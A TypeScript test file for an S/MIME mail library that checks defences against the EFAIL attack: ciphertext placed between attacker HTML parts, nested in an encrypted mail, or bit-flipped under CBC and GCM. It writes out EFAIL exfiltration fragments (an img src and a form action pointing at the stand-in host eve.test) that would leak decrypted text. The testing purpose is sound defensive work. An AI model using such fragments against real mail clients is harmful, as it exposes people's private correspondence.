// EFAIL (Poddebniak et al. 2018): the victim's ciphertext inside the attacker's mail, so that decrypting it sends the text
// out. Only a root is opened, what it holds stands alone, and a CBC text that was bent has no signature left.
import { describe, expect, it } from 'vitest'
import { concatBytes, utf8 } from '../../../src/bytes.ts'
import { decodeBody, parseEntity } from '../../../src/mime/parse-message.ts'
import { encodeBase64Lines } from '../../../src/mime/transfer-encoding.ts'
import { decryptEntity, isEncrypted } from '../../../src/smime/decrypt.ts'
import { encryptEntity } from '../../../src/smime/encrypt.ts'
import { openMessage } from '../../../src/smime/open-message.ts'
import { signAndEncrypt } from '../../../src/smime/protect.ts'
import { order, setStage, signingTime } from './stage.ts'

const { on } = setStage()

const encrypted = (cipher: 'aes-256-cbc' | 'aes-256-gcm' = 'aes-256-cbc') =>
  signAndEncrypt(crypto, {
    entity: order,
    signer: on().manager,
    signingTime,
    recipients: [on().eve.certificate],
    cipher,
  })

describe('ciphertext among other parts', () => {
  const around: readonly (readonly [why: string, before: string, after: string])[] = [
    ['between an open and a closing tag', '<img src="http://eve.test/', '">'],
    ['behind a form', '<form action="http://eve.test/"><textarea name=t>', '</textarea></form>'],
  ]
  for (const [why, before, after] of around) {
    it(`stays shut ${why}`, async () => {
      const html = (text: string) => utf8(`--x\r\nContent-Type: text/html\r\n\r\n${text}\r\n--x\r\n`)
      const message = concatBytes([
        utf8('Content-Type: multipart/mixed; boundary=x\r\n\r\n'),
        html(before),
        await encrypted(),
        utf8('\r\n'),
        html(after),
        utf8('--x--\r\n'),
      ])
      expect(isEncrypted(message)).toBe(false)
      await expect(decryptEntity(crypto, message, [on().eve])).rejects.toMatchObject({
        code: 'cannot-decrypt',
      })
      expect(await openMessage(crypto, message, [on().eve])).toMatchObject({ layers: [], content: null })
    })
  }

  it('stays shut as an attachment of a mail that is itself encrypted', async () => {
    const inner = concatBytes([
      utf8(
        'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="http://eve.test/\r\n--x\r\n',
      ),
      await encrypted(),
      utf8('\r\n--x--\r\n'),
    ])
    const message = await encryptEntity(crypto, { entity: inner, recipients: [on().eve.certificate] })
    const opened = await openMessage(crypto, message, [on().eve])
    expect(opened.layers).toEqual(['enveloped'])
    expect(opened.entity).toEqual(inner)
  })
})

describe('ciphertext that was bent', () => {
  /** Flips one bit of the body, `back` octets from the end. */
  async function bent(cipher: 'aes-256-cbc' | 'aes-256-gcm', back: number) {
    const message = await encrypted(cipher)
    const cms = Uint8Array.from(decodeBody(parseEntity(message)))
    cms[cms.length - back] = (cms[cms.length - back] ?? 0) ^ 1
    return concatBytes([
      utf8(
        'Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n',
      ),
      encodeBase64Lines(cms),
    ])
  }

  it('does not open in GCM, wherever it was bent', async () => {
    for (const back of [1, 20, 100, 2000]) {
      await expect(openMessage(crypto, await bent('aes-256-gcm', back), [on().eve])).rejects.toMatchObject({
        code: 'cannot-decrypt',
      })
    }
  })

  it('is never shown as signed in CBC, wherever it was bent', async () => {
    const length = decodeBody(parseEntity(await encrypted())).length
    for (let back = 17; back < length - 600; back += 257) {
      const verdict = await openMessage(crypto, await bent('aes-256-cbc', back), [on().eve]).then(
        async (opened) => (await on().judge(opened.entity)).verdict,
        (error: unknown) => (error as { code: string }).code,
      )
      expect(['cannot-decrypt', 'invalid', 'not-signed']).toContain(verdict)
    }
  })
})
